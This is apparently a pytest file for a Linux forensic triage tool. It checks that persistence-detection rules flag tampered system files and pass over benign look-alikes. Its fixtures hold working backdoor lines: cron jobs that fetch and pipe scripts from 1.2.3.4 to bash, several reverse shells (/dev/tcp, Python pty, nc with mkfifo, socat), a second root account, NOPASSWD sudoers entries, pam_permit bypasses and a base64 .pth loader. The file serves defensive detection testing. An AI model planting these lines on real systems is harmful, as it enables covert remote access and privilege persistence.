"""What is near to the scenes: spellings that get round a pattern, and harmless lines."""

from __future__ import annotations

import time
from typing import cast

import pytest

from ext4kit.filesystem.content import Content
from ext4kit.problems import Problems
from ext4kit.triage.rules.patterns import PathPatterns
from ext4kit.triage.rules.reading import own_rules
from ext4kit.triage.rules.rule import Rule, Trait
from ext4kit.triage.rules.traits import SMALL
from ext4kit.triage.suspicions.conditions import Conditions, Examined
from tests.triage.in_memory import InMemory

RULES = [
    rule
    for rule in own_rules()
    if rule.content and not rule.attributes and not rule.needs & {Trait.SETUID, Trait.WRITABLE}
]
PATHS = PathPatterns([rule.paths for rule in RULES])
CASES: list[tuple[str, str, str | None]] = [
    ("/etc/passwd", "root:x:0:0::/root:/bin/sh\nsys2:x:+0:0::/:/bin/sh\n", "second-root"),
    ("/etc/passwd", "root:x:0:0::/root:/bin/sh\nsys2:x: 000:0::/:/bin/sh\n", "second-root"),
    ("/etc/passwd", " ftp:x:0:65534::/:/bin/sh\nroot:x:0:0::/root:/bin/sh\n", "second-root"),
    ("/etc/passwd", "root::0:0::/root:/bin/sh\n", "password-in-passwd"),
    ("/etc/passwd", "firefart:fi6bS9A.C7BDQ:0:0:pwned:/root:/bin/bash\n", "second-root"),
    ("/etc/passwd", "x:aGk3/d83jKq2E:1005:1005::/:/bin/bash\n", "password-in-passwd"),
    ("/etc/passwd", "anna:x:1000:1000:Anna,,,:/home/anna:/bin/bash\n+anna::::::\n", None),
    ("/etc/shadow", "bin:$y$j9T$abcdefgh$abcdefghijklm:19000:0:99999:7:::\n", "service-password"),
    ("/etc/sudoers.d/z", "anna ALL=(ALL) NOPASSWD:/bin/bash\n", "sudo-for-services"),
    ("/etc/sudoers.d/z", "anna ALL = NOPASSWD: /usr/bin/vim\n", "sudo-for-services"),
    ("/etc/sudoers.d/z", "anna ALL=(root) NOPASSWD:SETENV: ALL\n", "sudo-without-password"),
    ("/etc/sudoers", "#1001 ALL=(ALL) NOPASSWD: ALL\n", "sudo-without-password"),
    ("/etc/sudoers", "anna ALL=(ALL) \\\n  NOPASSWD: \\\n ALL\n", "sudo-without-password"),
    ("/etc/sudoers", "www-data ALL=(root) NOPASSWD:SETENV:ALL\n", "sudo-for-services"),
    ("/etc/sudoers", "Cmnd_Alias X = ALL\nanna ALL=(ALL) NOPASSWD: X\n", "sudo-without-password"),
    ("/etc/sudoers", "@includedir /var/tmp/s.d\n", "sudo-for-services"),
    ("/etc/sudoers", "#include /home/anna/.s\n", "sudo-for-services"),
    (
        "/etc/sudoers",
        "anna ALL=(ALL) NOPASSWD: /usr/bin/apt, /home/anna/.x/run\n",
        "sudo-for-services",
    ),
    ("/etc/sudoers", "Defaults:anna !authenticate\n", "sudo-without-password"),
    ("/etc/sudoers", "anna ALL=(ALL) NOPASSWD: /usr/bin/systemctl restart nginx\n", None),
    (
        "/etc/sudoers",
        "#includedir /etc/sudoers.d\n# anna ALL=NOPASSWD: ALL\n%sudo\tALL=(ALL:ALL) ALL\n",
        None,
    ),
    ("/etc/doas.conf", "permit nopass :wheel\n", "sudo-without-password"),
    ("/etc/doas.conf", "permit persist :wheel\npermit nopass anna cmd reboot\n", None),
    ("/etc/pam.d/sshd", "auth  [default=done]  pam_permit.so\n", "pam-open"),
    ("/etc/pam.d/su", "auth\tsufficient\t/lib/security/pam_permit.so\n", "pam-open"),
    (
        "/etc/pam.d/sudo",
        "auth required pam_unix.so\nauth sufficient ../../../tmp/p.so\n",
        "pam-foreign-module",
    ),
    ("/etc/ssh/sshd_config", "  AuthorizedKeysCommand   /usr/local/bin/k\n", "ssh-keys-elsewhere"),
    (
        "/etc/ssh/sshd_config",
        "AuthorizedKeysCommand  none\nAuthorizedKeysFile  .ssh/authorized_keys\n",
        None,
    ),
    (
        "/etc/ssh/sshd_config",
        "authorizedkeysfile .ssh/authorized_keys /tmp/%u\n",
        "ssh-keys-elsewhere",
    ),
    ("/etc/ssh/sshd_config", "Include /var/lib/x.conf\n", "ssh-keys-elsewhere"),
    (
        "/root/.ssh/authorized_keys",
        'ssh-ed25519 AAAA a\nno-pty,COMMAND="curl x.y/z|sh" ssh-rsa AAA\n',
        "ssh-key-odd-command",
    ),
    (
        "/etc/cron.d/a",
        "* * * * * root (curl -fsSL http://1.2.3.4/a.sh || wget -q -O- http://1.2.3.4/a.sh) | bash\n",  # noqa: E501
        "cron-odd",
    ),
    (
        "/etc/cron.d/a",
        "* * * * * root wget -qO /var/lib/a 1.2.3.4/a && chmod 755 /var/lib/a && /var/lib/a\n",
        "cron-odd",
    ),
    ("/etc/cron.d/a", "* * * * * root echo Y3Vyb | base64 -d | sh\n", "cron-odd"),
    ("/etc/cron.d/a", "* * * * * root echo Y3Vyb|base64 --decode|bash -s x\n", "cron-odd"),
    (
        "/etc/cron.d/a",
        "SHELL=/bin/bash\n@daily root exec 5<>/dev/tcp/1.1.1.1/80; cat <&5 | while read l; do $l; done\n",  # noqa: E501
        "cron-odd",
    ),
    ("/etc/cron.d/a", "* * * * * root //tmp//a\n", "cron-odd"),
    ("/etc/cron.d/a", "* * * * * root cd /var/tmp/.. && /usr/../dev/shm/a\n", "cron-odd"),
    (
        "/etc/cron.d/a",
        "* * * * * root PATH=/tmp:$PATH; x; /bin/bash /usr/lib/.kworker/run\n",
        "cron-odd",
    ),
    ("/etc/cron.d/a", "* * * * * root bash <(curl -s x.y)\n", "cron-odd"),
    (
        "/etc/cron.d/a",
        '* * * * * root python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("1.1.1.1",1));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn("sh")\'\n',  # noqa: E501
        "cron-odd",
    ),
    (
        "/etc/cron.d/a",
        "* * * * * root rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 1.1.1.1 9 >/tmp/f\n",
        "cron-odd",
    ),
    ("/etc/cron.d/a", "* * * * * root eval \"$(printf '\\x63'|xxd -r -p)\"\n", "cron-odd"),
    ("/etc/cron.d/a", "* * * * * root nohup setsid /dev/shm/a >/dev/null 2>&1 &\n", "cron-odd"),
    ("/etc/cron.d/a", "* * * * * root /lib64/ld-linux-x86-64.so.2 /tmp/a\n", "cron-odd"),
    (
        "/etc/cron.d/a",
        "0 3 * * * root test -x /usr/bin/certbot && perl -e 'sleep int(rand(43200))' && certbot -q renew\n",  # noqa: E501
        "cron-one-liner",
    ),
    (
        "/etc/cron.d/a",
        "0 3 * * * root curl -s https://x | tee /tmp/x.json | python3 -m json.tool > /srv/x\n",
        None,
    ),
    (
        "/etc/cron.d/a",
        "0 3 * * * root find /tmp -type f -mtime +3 -delete; /root/.acme.sh/acme.sh --cron\n",
        None,
    ),
    (
        "/etc/systemd/system/a.service",
        "[Service]\nType=oneshot\nExecStart = @/tmp/a a\n",
        "unit-odd",
    ),
    (
        "/etc/systemd/system/a.service",
        "[Service]\nExecStart=/usr/bin/env -i /bin/bash -c 'nc 1.1.1.1 4 -e /bin/sh'\n",
        "unit-odd",
    ),
    (
        "/etc/systemd/system/a.service",
        "[Service]\nEnvironment=LD_PRELOAD=/var/tmp/x.so\nExecStart=/usr/sbin/sshd -D\n",
        "unit-odd",
    ),
    (
        "/etc/systemd/system/a.service",
        "[Service]\nExecStart=/usr/bin/socat TCP:1.1.1.1:1 EXEC:/bin/bash,pty\n",
        "unit-odd",
    ),
    ("/etc/systemd/system/a.service", "[Service]\nExecStart=/root/.x/agent\n", "unit-odd"),
    (
        "/etc/systemd/system/a.service",
        "[Service]\nExecStart=/bin/sh -c '/usr/bin/ls > /tmp/x; exec /opt/a --tmp=/tmp/b'\n",
        None,
    ),
    ("/etc/rc.local", "#!/bin/sh\nif [ 1 ]; then /var/tmp/a & fi\n", "boot-script-odd"),
    ("/root/.bashrc", "[ -x /dev/shm/.a ] && { /dev/shm/.a & } 2>/dev/null\n", "shell-start-odd"),
    ("/root/.bashrc", "export LD_PRELOAD=/usr/lib/x.so\n", "interpreter-options"),
    (
        "/root/.bashrc",
        "function sudo() { :; }\nalias ssh='strace -o /tmp/l -e read ssh'\n",
        "shell-start-odd",
    ),
    ("/etc/profile.d/a.sh", "eval $(echo aWQ= | base64 -d)\n", "shell-start-odd"),
    (
        "/etc/udev/rules.d/a.rules",
        'ACTION=="add", RUN{program}+="/bin/bash -c \'/tmp/a\'"\n',
        "udev-odd",
    ),
    (
        "/etc/apt/apt.conf.d/a",
        'APT::Update::Post-Invoke-Success { "curl x.y | sh"; };\n',
        "package-hook-odd",
    ),
    (
        "/usr/lib/python3/dist-packages/a.pth",
        "import base64;exec(base64.b64decode('aWQ='))\n",
        "python-start",
    ),
    (
        "/usr/local/lib/python3.11/dist-packages/d.pth",
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n",  # noqa: E501
        None,
    ),
    ("/etc/gitconfig", "[alias]\n\tst = !/tmp/a\n", "git-hook"),
    ("/etc/default/grub", 'GRUB_CMDLINE_LINUX_DEFAULT="quiet rdinit=/bin/x"\n', "boot-init"),
    ("/etc/sysctl.d/a.conf", "kernel.core_pattern=|/tmp/a %p\n", "kernel-runs"),
    ("/etc/sysctl.d/a.conf", "kernel.core_pattern=| /usr/bin/python3 /x\n", "kernel-runs"),
    (
        "/etc/modprobe.d/a.conf",
        "install usb_storage /bin/sh -c '/sbin/modprobe -i usb_storage; nohup /dev/shm/a'\n",
        "module-command",
    ),
    (
        "/etc/polkit-1/rules.d/1.rules",
        "polkit.addRule(function(a,s){return polkit.Result.YES});\n",
        "polkit-yes",
    ),
    (
        "/etc/polkit-1/rules.d/1.rules",
        "polkit.addRule((a, s) => polkit.Result.YES);\n",
        "polkit-yes",
    ),
    (
        "/etc/polkit-1/rules.d/1.rules",
        'polkit.addRule(function(action, subject) {\n if (action.id.indexOf("org.freedesktop.") == 0 && subject.user == "x") return "yes";\n});\n',  # noqa: E501
        "polkit-yes",
    ),
    ("/etc/ld.so.conf.d/a.conf", "/home/anna/lib\n", "library-path"),
    ("/etc/ld.so.conf.d/a.conf", "include /tmp/*.conf\n", "library-path"),
    (
        "/etc/xinetd.d/a",
        "service a\n{\n server = /usr/bin/python3\n server_args = -c x\n}\n",
        "inetd-shell",
    ),
    ("/etc/inetd.conf", "9999 stream tcp nowait root /bin/bash bash -i\n", "inetd-shell"),
    ("/etc/NetworkManager/dispatcher.d/a", "#!/bin/sh\n/var/tmp/.a/b &\n", "network-hook-odd"),
    (
        "/etc/logrotate.d/a",
        "/var/log/a {\n lastaction\n  bash /dev/shm/x\n endscript\n}\n",
        "logrotate-odd",
    ),
    ("/etc/aliases", 'root: "|/tmp/a"\n', "other-start-odd"),
    (
        "/etc/update-motd.d/00",
        "#!/bin/bash\nbash -c 'bash -i >& /dev/tcp/1.1.1.1/1 0>&1'\n",
        "shell-start-odd",
    ),
]
HOSTILE = [
    b"curl ", b"sh ", b'sh -c "', b"/tmp/", b"nc -", b"base64 -d |", b"eval $(", b"/a", b"/.",
    b"x ALL=NOPASSWD:", b"a=", b"auth [", b'command="', b"subject.active && ", b"postrotate ",
    b"env env ", b"\n/tmp/a", b"a\n", b"* * * * * ", b"Action=*\n", b"justforfun\0", b" ",
]  # fmt: skip


def matching(path: str, data: bytes) -> set[str]:
    """Codes of the rules that a file with this path and content matches."""
    examined = Examined(path.encode(), lambda: cast(Content, InMemory(data)))
    rules = (RULES[number] for number in PATHS.of_path(path.encode()))
    return {
        rule.code
        for rule in rules
        if rule.accepts(examined.path) and Conditions(Problems()).note(rule, examined) is not None
    }


@pytest.mark.parametrize(
    ("path", "text", "code"), CASES, ids=[f"{code}-{at}" for at, (*_, code) in enumerate(CASES)]
)
def test_a_neighbour_is_told_apart(path: str, text: str, code: str | None) -> None:
    found = matching(path, text.encode())
    assert code in found if code else not found


@pytest.mark.slow
@pytest.mark.parametrize("rule", [rule for rule in own_rules() if rule.content or rule.added],
                         ids=lambda rule: rule.code)  # fmt: skip
def test_no_content_makes_a_rule_slow(rule: Rule) -> None:
    for word in HOSTILE:
        data = b"\n" + word * (SMALL // len(word))
        for pattern in (rule.content, rule.without, rule.added):
            began = time.process_time()
            if pattern is not None:
                pattern.search(data)
            assert time.process_time() - began < 5, word
